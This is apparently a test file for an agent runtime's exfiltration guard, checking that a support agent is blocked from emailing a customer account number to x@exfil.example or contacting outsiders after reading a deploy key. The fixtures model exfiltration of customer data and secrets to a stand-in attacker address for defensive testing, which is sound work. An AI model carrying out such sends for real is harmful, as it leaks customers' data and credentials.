import { CapabilityDeniedError, Runtime } from '@brane/sdk';
import { ExfiltrationPolicies } from '../src/ExfiltrationPolicies.js';
import { SupportAgent } from '../src/SupportAgent.js';

function setup() {
  const runtime = new Runtime({ environment: 'prod' });
  runtime.use(new ExfiltrationPolicies());
  return { runtime, agent: runtime.govern(new SupportAgent()) };
}

describe('exfiltration guard', () => {
  it('denies an email carrying the record read earlier, and allows one without it', async () => {
    const { runtime, agent } = setup();
    await runtime.withContext({ sessionId: 'r1' }, async () => {
      const record = await agent.lookupCustomer('cust_ada');
      await expect(agent.sendEmail('x@exfil.example', `acct ${record?.accountNumber ?? ''}!`)).rejects.toMatchObject({
        policyName: 'no_customer_data_in_email',
      });
      await expect(agent.sendEmail('x@exfil.example', 'Ticket updated.')).resolves.toBe('sent to x@exfil.example');
    });
    // Another session never read it: the same body is its own business.
    await expect(
      runtime.withContext({ sessionId: 'r2' }, () =>
        agent.sendEmail('x@exfil.example', 'acct GB29-NWBK-6016-1331-9268-19'),
      ),
    ).resolves.toBe('sent to x@exfil.example');
  });

  it('denies external communication after untrusted content only while a secret is held', async () => {
    const { runtime, agent } = setup();
    await runtime.withContext({ sessionId: 'r1' }, async () => {
      await agent.fetchPage('https://shop.example/faq');
      await expect(agent.sendEmail('ops@example.org', 'done')).resolves.toBeDefined();
      await agent.readDeployKey();
      await expect(agent.sendEmail('ops@example.org', 'done')).rejects.toThrow(CapabilityDeniedError);
    });
  });
});
